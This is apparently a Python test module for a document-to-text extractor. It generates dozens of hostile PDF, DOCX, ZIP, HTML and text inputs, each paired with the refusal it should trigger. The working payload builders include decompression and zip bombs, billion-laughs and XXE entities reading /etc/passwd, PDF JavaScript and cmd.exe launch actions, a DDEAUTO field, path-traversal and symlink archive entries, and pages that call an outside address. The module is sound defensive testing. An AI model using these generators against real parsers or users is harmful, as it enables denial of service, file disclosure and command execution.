"""Files built to do harm: each with what may be said of it, or the text that may come of it.

``address`` is where a file tries to call out to; ``ESCAPED`` is what it tries to write.
"""

import base64
import gzip
import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass

from tests.documents import docx, line, lines, pdf, zipped

ESCAPED = "trm-escaped"
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


@dataclass(frozen=True)
class Attack:
    """How to make the file; ``refused`` is a pattern of the sentence, else ``text`` is read."""

    make: Callable[[str], bytes]
    refused: str = ""
    text: str | None = None
    slow: bool = False  # only the limit of time ends it


# --- PDF


def stream(body: bytes, more: str = "") -> bytes:
    return f"<< /Length {len(body)} {more} >>\nstream\n".encode() + body + b"\nendstream"


def with_content(body: bytes, more: str) -> bytes:
    """A page whose content stream is exactly these bytes."""
    raw = pdf([lines(["x"])])
    at = raw.index(b"<< /Length")
    return raw[:at] + stream(body, more) + raw[raw.index(b"\nendstream", at) + 10 :]


def encrypted_pdf(_: str) -> bytes:
    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf([lines(["secret"])]))))
    writer.encrypt("password", algorithm="AES-256")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def flate_bomb(_: str) -> bytes:
    return with_content(
        zlib.compress(zlib.compress(b"0" * 600_000_000, 1), 9),
        "/Filter [/FlateDecode /FlateDecode]",
    )


def run_length_bomb(_: str) -> bytes:
    packed = zlib.compress(b"\x81 " * 5_000_000, 9)
    return with_content(packed, "/Filter [/FlateDecode /RunLengthDecode]")


def filter_chain(_: str) -> bytes:
    return with_content(b"41" * 100, "/Filter [" + "/ASCIIHexDecode " * 20_000 + "]")


def unknown_handler(_: str) -> bytes:
    raw = pdf([lines(["x"])])
    more = b"/Encrypt << /Filter /Evil /V 99 /R 99 /O (x) /U (x) /P 1 >> /ID [(a) (b)] /Root"
    return raw.replace(b"/Root", more)


def self_kids(_: str) -> bytes:
    return pdf([lines(["x"])]).replace(b"/Kids [", b"/Kids [2 0 R ")


def million_pages(_: str) -> bytes:
    return pdf([lines(["x"])]).replace(b"/Kids [", b"/Kids [" + b"7 0 R " * 1_000_000)


def long_page_tree(_: str) -> bytes:
    nodes = [
        f"<< /Type /Pages /Kids [{8 + at} 0 R] /Count 1 /Parent {6 + at} 0 R >>".encode()
        for at in range(50_000)
    ]
    return pdf([lines(["x"])], objects=nodes).replace(b"/Kids [50007 0 R]", b"/Kids [7 0 R]")


def previous_table_is_itself(_: str) -> bytes:
    raw = pdf([lines(["still here"])])
    start = raw.rindex(b"\nxref") + 1
    return raw.replace(b"/Root 1 0 R", f"/Root 1 0 R /Prev {start}".encode())


def table_stream_without_end(_: str) -> bytes:
    body = zlib.compress(b"\x01" * 3000)
    head = "/Type /XRef /Size 2147483647 /W [1 1 1] /Index [0 2147483647] /Root 1 0 R"
    raw = b"%PDF-1.7\n1 0 obj\n" + stream(body, head + " /Filter /FlateDecode") + b"\nendobj\n"
    return raw + b"startxref\n9\n%%EOF\n"


def objects_in_themselves(_: str) -> bytes:
    inner = b"1 0 2 30 << /Type /Catalog /Pages 2 0 R >> << /Type /Pages /Kids [2 0 R] >>"
    streams = [stream(inner, "/Type /ObjStm /N 1000000000 /First 9 /Extends 7 0 R")]
    table = bytes([0, 0, 0]) + bytes([2, 7, 0]) * 8
    raw = pdf([lines(["x"])], objects=streams)
    raw = raw[: raw.rindex(b"xref\n0")]
    at = len(raw)
    head = "/Type /XRef /Size 9 /W [1 1 1] /Root 1 0 R"
    return raw + b"99 0 obj\n" + stream(table, head) + f"\nendobj\nstartxref\n{at}\n%%EOF".encode()


def reference_to_itself(_: str) -> bytes:
    return pdf([lines(["x"])], objects=[b"7 0 R"], resources="/XObject 7 0 R")


def length_of_itself(_: str) -> bytes:
    body = b"<< /Length 7 0 R >>\nstream\nBT ET\nendstream"
    return pdf([lines(["still here"])], objects=[body], resources="/XObject << /I0 7 0 R >>")


def huge_picture(_: str) -> bytes:
    head = (
        "/Type /XObject /Subtype /Image /Width 2000000000 /Height 2000000000 "
        "/ColorSpace /DeviceRGB /BitsPerComponent 16 /Filter /FlateDecode"
    )
    picture = stream(zlib.compress(b"\x00" * 30_000_000, 1), head)
    content = "q 9 0 0 9 0 0 cm /I0 Do Q\n" + lines(["still here"])
    return pdf([content], objects=[picture], resources="/XObject << /I0 7 0 R >>")


def endless_inline_picture(_: str) -> bytes:
    return pdf([lines(["still here"]) + "BI /W 999999999 /H 999999999 ID " + "x" * 1_000_000])


def script_at_opening(address: str) -> bytes:
    script = f"app.launchURL('{address}'); this.exportDataObject({{cName: '{ESCAPED}'}})"
    action = f"/OpenAction << /S /JavaScript /JS ({script}) >>"
    return pdf([lines(["still here"])], catalog=action)


def actions_that_start_programs(address: str) -> bytes:
    launch = f"<< /S /Launch /Win << /F (cmd.exe) /P (/c echo > {ESCAPED}) >> /F (/bin/sh) >>"
    submit = f"<< /S /SubmitForm /F << /FS /URL /F ({address}) >> >>"
    more = f"/AA << /WC {launch} /WS {submit} >> /OpenAction << /S /GoToR /F ({address}) >>"
    return pdf([lines(["still here"])], catalog=more)


def program_attached(_: str) -> bytes:
    attached = stream(b"MZ" + b"\x90" * 1000, "/Type /EmbeddedFile")
    tree = f"/Names << /EmbeddedFiles << /Names [({ESCAPED}.exe) << /EF << /F 7 0 R >> >>] >> >>"
    return pdf([lines(["still here"])], objects=[attached], catalog=tree)


def external_stream(address: str) -> bytes:
    content = f"<< /Length 0 /F << /FS /URL /F ({address}) >> >>\nstream\n\nendstream".encode()
    return pdf([lines(["still here"]) + "/I0 Do\n"], objects=[content], resources="/XObject << /I0 7 0 R >>")  # fmt: skip


def forms(count: int, calls: int, *, loops: bool) -> list[bytes]:
    made = []
    for at in range(count):
        following = 7 + (at + 1) % count if loops else 8 + at
        last = not loops and at == count - 1
        body = b"BT ET" if last else b"/F0 Do " * calls
        head = "/Type /XObject /Subtype /Form /BBox [0 0 9 9]"
        inner = "" if last else f" /Resources << /XObject << /F0 {following} 0 R >> >>"
        made.append(stream(body, head + inner))
    return made


def form_in_itself(_: str) -> bytes:
    return pdf(["/F0 Do " + lines(["x"])], objects=forms(1, 1, loops=True), resources="/XObject << /F0 7 0 R >>")  # fmt: skip


def forms_ten_by_ten(_: str) -> bytes:
    return pdf(["/F0 Do " + lines(["x"])], objects=forms(10, 10, loops=False), resources="/XObject << /F0 7 0 R >>")  # fmt: skip


def font(more: str, *others: bytes) -> bytes:
    raw = pdf([lines(["abc"])], objects=others)
    base = b"/Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding"
    return raw.replace(base, more.encode())


def font_of_itself(_: str) -> bytes:
    return font("/Subtype /Type0 /BaseFont /X /Encoding /Identity-H /DescendantFonts [3 0 R]")


def font_names_without_end(_: str) -> bytes:
    cmap = (
        b"/CIDInit /ProcSet findresource begin begincmap 1 begincodespacerange <00> <FF> "
        b"endcodespacerange 1 beginbfrange <00000000> <FFFFFFFF> <0041> endbfrange endcmap"
    )
    return font("/Subtype /Type1 /BaseFont /Helvetica /ToUnicode 7 0 R", stream(cmap))


def font_program_is_noise(_: str) -> bytes:
    described = b"<< /Type /FontDescriptor /FontName /X /Flags 4 /FontFile2 8 0 R >>"
    noise = bytes(range(256)) * 4000
    more = "/Subtype /TrueType /BaseFont /X /FirstChar 0 /LastChar 255 /FontDescriptor 7 0 R"
    return font(more, described, stream(noise, f"/Length1 {len(noise)}"))


def drawn_font_in_itself(_: str) -> bytes:
    glyph = stream(b"100 0 d0 BT /F1 9 Tf (a) Tj ET")
    more = (
        "/Subtype /Type3 /FontBBox [0 0 9 9] /FontMatrix [.1 0 0 .1 0 0] /FirstChar 97 /LastChar 97 "
        "/Widths [9] /Encoding << /Differences [97 /a] >> /CharProcs << /a 7 0 R >> "
        "/Resources << /Font << /F1 3 0 R >> >>"
    )
    return font(more, glyph)


def widths_without_end(_: str) -> bytes:
    widths = b"[" + b"500 " * 3_000_000 + b"]"
    more = "/Subtype /Type1 /BaseFont /Helvetica /FirstChar 0 /LastChar 2999999 /Widths 7 0 R"
    return font(more, widths)


def five_million_signs(_: str) -> bytes:
    return pdf([line("x" * 5_000_000, 60, 700)])


def million_saved_states(_: str) -> bytes:
    return pdf(["q " * 3_000_000 + lines(["still here"])])


def signs_under_rectangles(_: str) -> bytes:
    return pdf(["1 0 0 rg " + "0 0 595 842 re f " * 30_000 + line("x" * 30_000, 60, 700)])


def parentheses(_: str) -> bytes:
    return pdf(["BT /F1 9 Tf " + "(" * 5_000_000 + " Tj ET"])


def layers_of_themselves(_: str) -> bytes:
    return pdf([lines(["x"])], objects=[b"7 0 R"], catalog="/OCProperties 7 0 R")


# --- ZIP and DOCX


def body_xml(xml: str) -> bytes:
    return zipped({"word/document.xml": xml.encode()})


def laughs(levels: int = 10) -> str:
    named = "".join(f'<!ENTITY a{at} "{f"&a{at - 1};" * 10}">' for at in range(1, levels))
    return f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a0 "ha">{named}]><x>&a{levels - 1};</x>'


def laughs_in(encoding: str) -> Callable[[str], bytes]:
    text = laughs().replace('version="1.0"', f'version="1.0" encoding="{encoding}"')
    return lambda _: zipped({"word/document.xml": text.encode(encoding)})


def quadratic(_: str) -> bytes:
    return body_xml(f'<!DOCTYPE x [<!ENTITY a "{"a" * 50_000}">]><x>{"&a;" * 50_000}</x>')


def outside_entity(address: str) -> bytes:
    return body_xml(f'<!DOCTYPE x [<!ENTITY a SYSTEM "{address}"><!ENTITY b SYSTEM "file:///etc/passwd">]><x>&a;&b;</x>')  # fmt: skip


def parameter_entity(address: str) -> bytes:
    return body_xml(f'<!DOCTYPE x [<!ENTITY % a SYSTEM "{address}"> %a;]><x/>')


def outside_dtd_utf16(address: str) -> bytes:
    text = f'<?xml version="1.0" encoding="utf-16"?><!DOCTYPE x SYSTEM "{address}"><x/>'
    return zipped({"word/document.xml": text.encode("utf-16")})


def included(address: str) -> bytes:
    return body_xml(
        f'<w:document {W} xmlns:xi="http://www.w3.org/2001/XInclude"><w:body>'
        f'<w:p><w:r><w:t>still here</w:t></w:r></w:p><xi:include href="{address}" parse="text"/>'
        '<xi:include href="/etc/passwd" parse="text"/></w:body></w:document>'
    )


def outside_template(address: str) -> bytes:
    office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    related = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="r1" Type="{office}/attachedTemplate" Target="{address}" '
        f'TargetMode="External"/><Relationship Id="r2" Type="{office}/aFChunk" '
        f'Target="{address}" TargetMode="External"/></Relationships>'
    ).encode()
    return docx("still here", xml='<w:altChunk r:id="r2" xmlns:r="x"/>', extra={"word/_rels/document.xml.rels": related})  # fmt: skip


def field_that_starts_a_program(_: str) -> bytes:
    code = f'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k echo > {ESCAPED}"'
    field = (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>'
        f'{code}</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )
    return docx("still here", xml=field)


def deep_xml(_: str) -> bytes:
    return body_xml("<a>" * 100_000)


def tables_in_tables(_: str) -> bytes:
    return docx("x", xml="<w:tbl><w:tr><w:tc>" * 20_000 + "</w:tc></w:tr></w:tbl>" * 20_000)


def table_of_many_cells(_: str) -> bytes:
    cell = "<w:tc><w:p><w:r><w:t>x</w:t></w:r></w:p></w:tc>"
    return docx("x", xml="<w:tbl>" + ("<w:tr>" + cell * 1000 + "</w:tr>") * 400 + "</w:tbl>")


def many_attributes(_: str) -> bytes:
    many = " ".join(f'a{at}="x"' for at in range(200_000))
    return body_xml(f"<w:document {W} {many}><w:body/></w:document>")


def one_endless_text(_: str) -> bytes:
    return docx("x" * 12_000_000)


def huge_part(_: str) -> bytes:
    return docx("x" * 31_000_000)


def many_comments(_: str) -> bytes:
    return docx("still here", xml="<!--x--><?x y?>" * 50_000)


def style_of_itself(_: str) -> bytes:
    style = '<w:style w:styleId="h"><w:basedOn w:val="h"/><w:rPr><w:rStyle w:val="h"/></w:rPr></w:style>'
    xml = '<w:p><w:r><w:rPr><w:rStyle w:val="h"/></w:rPr><w:t>x y</w:t></w:r></w:p>'
    styles = f"<w:styles {W}>{style}</w:styles>".encode()
    return docx("still here", xml=xml, extra={"word/styles.xml": styles})


def macros(_: str) -> bytes:
    return docx("x", extra={"word/vbaProject.bin": b"Sub AutoOpen()"})


def nested_zip(_: str) -> bytes:
    content = b"0" * 10_000_000
    for _level in range(6):
        content = zipped({"a.zip": content})
    return content


def overlapping(_: str) -> bytes:
    """Many names over one body, as the 46 MB that unpack to 4.5 PB: each counts, none is stored."""
    kernel = zlib.compress(b"0" * 20_000_000, 9)[2:-4]
    crc = zlib.crc32(b"0" * 20_000_000)
    name = b"word/document.xml"
    head = struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, 0, 8, 0, 33, crc, len(kernel), 20_000_000, len(name), 0)  # fmt: skip
    out = io.BytesIO(head + name + kernel)
    start = out.seek(0, io.SEEK_END)
    for _entry in range(1500):
        out.write(struct.pack("<4s6H3L5H2L", b"PK\x01\x02", 20, 20, 0, 8, 0, 33, crc, len(kernel), 20_000_000, len(name), 0, 0, 0, 0, 0, 0) + name)  # fmt: skip
    size = out.tell() - start
    out.write(struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 1500, 1500, size, start, 0))
    return out.getvalue()


def many_entries(_: str) -> bytes:
    return zipped({f"word/{at}": b"" for at in range(3_000)})


def changed(content: bytes, at: int, value: bytes, *, signature: bytes = b"PK\x01\x02") -> bytes:
    """Change a field of the first entry of the central directory."""
    found = content.index(signature) + at
    return content[:found] + value + content[found + len(value) :]


def lying_size(_: str) -> bytes:
    return changed(body_xml("x" * 5_000_000), 24, struct.pack("<L", 1000))


def absurd_size(_: str) -> bytes:
    return changed(body_xml("<x/>"), 24, b"\xfe\xff\xff\xff")


def encrypted_member(_: str) -> bytes:
    return changed(body_xml("<x/>"), 8, b"\x01\x00")


def unknown_method(_: str) -> bytes:
    return changed(body_xml("<x/>"), 10, b"\x63\x00")


def directory_elsewhere(_: str) -> bytes:
    content = body_xml("<x/>")
    return changed(content, 16, b"\xff\xff\xff\x7f", signature=b"PK\x05\x06")


def climbing(name: str) -> Callable[[str], bytes]:
    return lambda _: docx("x", extra={name: b"x"})


def symlink(_: str) -> bytes:
    out = io.BytesIO(docx("still here"))
    with zipfile.ZipFile(out, "a") as archive:
        item = zipfile.ZipInfo("word/header1.xml")
        item.create_system, item.external_attr = 3, 0o120777 << 16
        archive.writestr(item, "/etc/passwd")
    return out.getvalue()


def two_bodies(_: str) -> bytes:
    import warnings

    out = io.BytesIO(docx("first"))
    with warnings.catch_warnings(), zipfile.ZipFile(out, "a") as archive:
        warnings.simplefilter("ignore")
        archive.writestr("word/document.xml", zipfile.ZipFile(io.BytesIO(docx("still here"))).read("word/document.xml"))  # fmt: skip
    return out.getvalue()


def sheet_as_document(_: str) -> bytes:
    return zipped({"xl/workbook.xml": b"<x/>", "xl/worksheets/sheet1.xml": b'<c r="XFD1048576"/>'})


# --- HTML and text


def html(body: str, head: str = "") -> bytes:
    return f"<html><head><meta charset='utf-8'>{head}</head><body>{body}</body></html>".encode()


def calling_page(address: str) -> bytes:
    return html(
        f"<p onload='fetch(\"{address}\")'>still here</p><img src='{address}'>"
        f"<script src='{address}'></script><iframe src='file:///etc/passwd'>x</iframe>",
        f"<base href='{address}'><meta http-equiv=refresh content='0;{address}'>"
        f"<link rel=stylesheet href='{address}'><style>@import url({address});</style>",
    )


def parts_in_parts(_: str) -> bytes:
    opened = "".join(
        f"--b{at}\nContent-Type: multipart/mixed; boundary=b{at + 1}\n\n" for at in range(20_000)
    )
    head = "MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=b0\n\n"
    return (head + opened + "--b20000\nContent-Type: text/html\n\n<p>x</p>").encode()


def attached_page(_: str) -> bytes:
    page = base64.encodebytes(html("<b>" * 2_000_000))
    head = b"MIME-Version: 1.0\nContent-Type: text/html\nContent-Transfer-Encoding: base64\n\n"
    return head + page


def laughing_picture(_: str) -> bytes:
    return laughs().replace("<x>", '<svg xmlns="http://www.w3.org/2000/svg">').encode()


TOO_MUCH = "too much|seconds"
HERE = "still here"
ATTACKS: dict[str, Attack] = {
    "pdf: password": Attack(encrypted_pdf, "password"),
    "pdf: encryption nobody knows": Attack(unknown_handler, "password|damaged"),
    "pdf: nested Flate, 600 MB": Attack(flate_bomb, "too much|damaged|no text"),
    "pdf: run length behind Flate": Attack(run_length_bomb, "too much|damaged|no text"),
    "pdf: 20,000 filters": Attack(filter_chain, "damaged|no text|too much"),
    "pdf: pages in themselves": Attack(self_kids, text="x"),
    "pdf: a million pages": Attack(million_pages, "pages"),
    "pdf: 50,000 levels of pages": Attack(long_page_tree, "damaged|nested|pages|too much", slow=True),
    "pdf: its table follows itself": Attack(previous_table_is_itself, "damaged"),
    "pdf: a table of 2 billion objects": Attack(table_stream_without_end, "damaged|too much|no pages", slow=True),
    "pdf: object streams in themselves": Attack(objects_in_themselves, "damaged|too much|no pages|nested"),
    "pdf: a reference to itself": Attack(reference_to_itself, "damaged|nested|too much|seconds", slow=True),
    "pdf: a length that is itself": Attack(length_of_itself, text=HERE),
    "pdf: a picture of 4·10^18 points": Attack(huge_picture, text=HERE),
    "pdf: an inline picture without end": Attack(endless_inline_picture, text=HERE),
    "pdf: a script at opening": Attack(script_at_opening, text=HERE),
    "pdf: launch, submit, go to": Attack(actions_that_start_programs, text=HERE),
    "pdf: a program attached": Attack(program_attached, text=HERE),
    "pdf: a stream from the network": Attack(external_stream, text=HERE),
    "pdf: a form in itself": Attack(form_in_itself, text="x"),
    "pdf: forms, 10 levels of 10": Attack(forms_ten_by_ten, TOO_MUCH, slow=True),
    "pdf: a font in itself": Attack(font_of_itself, "damaged|nested|letters|no text"),
    "pdf: letters of 4 billion codes": Attack(font_names_without_end, "too much|damaged|seconds", slow=True),
    "pdf: a font of noise": Attack(font_program_is_noise, text="abc"),
    "pdf: a drawn font in itself": Attack(drawn_font_in_itself, text="abc"),
    "pdf: 3 million widths": Attack(widths_without_end, text="abc", slow=True),
    "pdf: 5 million signs": Attack(five_million_signs, "more than|signs|too much|seconds", slow=True),
    "pdf: 3 million saved states": Attack(million_saved_states, text=HERE, slow=True),
    "pdf: 30,000 signs under 30,000 areas": Attack(signs_under_rectangles, TOO_MUCH, slow=True),
    "pdf: 5 million brackets": Attack(parentheses, "no text|damaged|nested", slow=True),
    "pdf: arrays 500,000 deep": Attack(lambda _: b"%PDF-1.4\n1 0 obj\n" + b"[" * 500_000, "damaged|nested|no pages", slow=True),
    "pdf: layers of themselves": Attack(layers_of_themselves, "damaged|nested|too much|seconds", slow=True),
    "docx: a billion laughs": Attack(lambda _: body_xml(laughs()), "entities"),
    "docx: a billion laughs in UTF-16": Attack(laughs_in("utf-16"), "entities|damaged"),
    "docx: a billion laughs in UTF-7": Attack(laughs_in("utf-7"), "entities|damaged"),
    "docx: one entity 50,000 times": Attack(quadratic, "entities"),
    "docx: entities from outside": Attack(outside_entity, "entities"),
    "docx: a parameter entity": Attack(parameter_entity, "entities"),
    "docx: a grammar from outside in UTF-16": Attack(outside_dtd_utf16, "entities|damaged|no text"),
    "docx: files included": Attack(included, text=HERE),
    "docx: a template from outside": Attack(outside_template, text=HERE),
    "docx: a field that starts a program": Attack(field_that_starts_a_program, text=HERE),
    "docx: XML 100,000 deep": Attack(deep_xml, "damaged|nested"),
    "docx: tables in tables, 20,000 deep": Attack(tables_in_tables, "damaged|nested"),
    "docx: 400,000 cells": Attack(table_of_many_cells, "more than|too much|memory|seconds", slow=True),
    "docx: 200,000 attributes": Attack(many_attributes, "damaged|no text|too much"),
    "docx: one text of 12 MB": Attack(one_endless_text, "damaged|more than"),
    "docx: a part of 31 MB": Attack(huge_part, "unpacks"),
    "docx: 50,000 comments and instructions": Attack(many_comments, text=HERE),
    "docx: a style of itself": Attack(style_of_itself, text=HERE + "\nx y"),
    "docx: macros": Attack(macros, "macros"),
    "zip: in zip in zip": Attack(nested_zip, "ZIP"),
    "zip: 1,500 names over one body": Attack(overlapping, "unpacks"),
    "zip: 3,000 entries": Attack(many_entries, "entries"),
    "zip: a size that lies": Attack(lying_size, "damaged|unpacks"),
    "zip: a size of 4 GB": Attack(absurd_size, "unpacks"),
    "zip: an encrypted member": Attack(encrypted_member, "password"),
    "zip: an unknown method": Attack(unknown_method, "damaged"),
    "zip: a directory that is elsewhere": Attack(directory_elsewhere, "damaged"),
    "zip: ../": Attack(climbing(f"../../tmp/{ESCAPED}"), "outside"),
    "zip: an absolute name": Attack(climbing(f"/tmp/{ESCAPED}"), "outside"),
    "zip: a drive and backslashes": Attack(climbing(f"C:\\{ESCAPED}"), "outside"),
    "zip: backslashes that climb": Attack(climbing(f"word\\..\\..\\{ESCAPED}"), "outside"),
    "zip: a link to /etc/passwd": Attack(symlink, "outside"),
    "zip: the body twice": Attack(two_bodies, text=HERE),
    "zip: a workbook of a billion cells": Attack(sheet_as_document, "spreadsheet"),
    "html: 3 million tags": Attack(lambda _: html("<b>" * 3_000_000), "nested|too much"),
    "html: 2 million closed tags": Attack(lambda _: html("<i></i>" * 2_000_000 + HERE), "too much|seconds", slow=True),
    "html: an attribute without end": Attack(lambda _: html('<a href="' + "x" * 15_000_000), "no text|more than", slow=True),
    "html: comments without end": Attack(lambda _: html(HERE + "<!--" * 1_000_000), "more than", slow=True),
    "html: declarations without end": Attack(lambda _: html(HERE + "<!" * 3_000_000), text=HERE, slow=True),
    "html: half tags without end": Attack(lambda _: html(HERE + "</" * 3_000_000 + "<a " * 2_000_000), text=HERE, slow=True),
    "html: styles without end": Attack(lambda _: html(HERE, "<style>" * 1_000_000), "no text"),
    "html: selectors without rules": Attack(lambda _: html(HERE, "<style>" + "a" * 5_000_000 + "</style>"), text=HERE),
    "html: a class of 5 million names": Attack(lambda _: html(f"<p class='{'a ' * 2_500_000}'>{HERE}</p>"), text=HERE, slow=True),
    "html: 3 million references": Attack(lambda _: html("&#65;" * 3_000_000), "more than", slow=True),
    "html: it calls out": Attack(calling_page, text=HERE),
    "html: a code page that unpacks": Attack(lambda _: b"<html><meta charset=zlib_codec><p>still here</p>", text=HERE),
    "html: a code page that is slow": Attack(lambda _: b"<html><meta charset=punycode><p>" + b"a-" * 4_000_000, "more than|too much|seconds", slow=True),
    "mhtml: parts in parts": Attack(parts_in_parts, "nested|no text|damaged|too much|encoding", slow=True),
    "mhtml: a page of 2 million tags": Attack(attached_page, "nested"),
    "svg: a billion laughs": Attack(laughing_picture, text=laughing_picture("").decode()),
    "text: 19 MB in one line": Attack(lambda _: b"x" * 19_000_000, "more than"),
    "text: NUL bytes": Attack(lambda _: b"\x00" * 10_000_000, "empty"),
    "text: NUL bytes among letters": Attack(lambda _: b"a\x00\x00b\x00" * 1_000_000, "encoding"),
    "text: halves of signs": Attack(lambda _: b"\xed\xa0\x80" * 100_000, "encoding"),
    "text: 6 million signs of no width": Attack(lambda _: ("a\u200b" * 3_000_000).encode(), "more than|too much", slow=True),
    "text: joiners without end": Attack(lambda _: ("\u200d" * 3_000_000).encode(), "no text|more than|too much|empty", slow=True),
    "text: misread ten times": Attack(lambda _: ("Ã" * 4_000_000).encode(), "more than|too much", slow=True),
    "text: a tower of accents": Attack(lambda _: ("a" + "\u0301" * 5_000_000).encode(), "more than|too much", slow=True),
    "gzip: 20 MB in 20 kB": Attack(lambda _: gzip.compress(b"0" * 20_000_000), "archive"),
    "picture that is a page too": Attack(lambda _: b"GIF89a<html><script>alert(1)</script>", "picture"),
    "a program called .docx": Attack(lambda _: b"MZ" + b"\x90\x00" * 5000, "program"),
    "an old Word file": Attack(lambda _: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 5000, "old Office"),
    "rtf with an object": Attack(lambda _: b"{\\rtf1{\\object\\objupdate{\\*\\objdata 0105}}}", "RTF"),
    "larger than allowed": Attack(lambda _: b"x" * 21_000_000, "larger"),
}  # fmt: skip
